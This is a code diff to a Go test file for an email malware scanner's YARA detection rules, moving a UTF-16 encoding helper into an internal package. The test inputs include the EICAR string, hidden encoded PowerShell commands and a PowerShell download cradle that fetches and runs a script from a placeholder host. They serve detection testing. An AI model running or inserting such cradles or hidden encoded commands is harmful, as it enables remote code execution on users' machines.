@@ -11,7 +11,6 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode/utf16"
 
 	"github.com/hillu/go-yara/v4"
 	"github.com/kensa-milter/kensa/message"
@@ -19,23 +18,16 @@ import (
 	"github.com/kensa-milter/kensa/scanners"
 	"github.com/kensa-milter/kensa/scanners/yarascan"
 	"golang.org/x/sys/unix"
+
+	"github.com/kensa-milter/kensa/internal/cryptkeys"
 )
 
 // The EICAR test string, assembled here so this file is not itself "infected".
 var eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
 
-// utf16le encodes s as Windows stores command lines and -EncodedCommand text.
-func utf16le(s string) []byte {
-	var b []byte
-	for _, u := range utf16.Encode([]rune(s)) {
-		b = append(b, byte(u), byte(u>>8))
-	}
-	return b
-}
-
 // encodedCommand is what PowerShell's -EncodedCommand expects.
 func encodedCommand(script string) string {
-	return base64.StdEncoding.EncodeToString(utf16le(script))
+	return base64.StdEncoding.EncodeToString(cryptkeys.UTF16LE(script))
 }
 
 // fakeZip is base64 of a harmless stand-in that starts like a ZIP file.
@@ -108,7 +100,7 @@ End Sub
 		[]string{"Kensa_PowerShell_EncodedCommand"}},
 	{"encoded en dash", "a.txt", "powershell \u2013ec " + encodedCommand("Write-Output 'kensa test'"),
 		[]string{"Kensa_PowerShell_EncodedCommand"}},
-	{"encoded utf-16 (shortcut)", "a.lnk", "L\x00\x00\x00" + string(utf16le("powershell.exe -w hidden -e "+encodedCommand("Write-Output 'kensa test'"))),
+	{"encoded utf-16 (shortcut)", "a.lnk", "L\x00\x00\x00" + string(cryptkeys.UTF16LE("powershell.exe -w hidden -e "+encodedCommand("Write-Output 'kensa test'"))),
 		[]string{"Kensa_PowerShell_EncodedCommand"}},
 	{"cradle iex webclient", "a.ps1", `IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')`,
 		[]string{"Kensa_PowerShell_Download_Cradle"}},
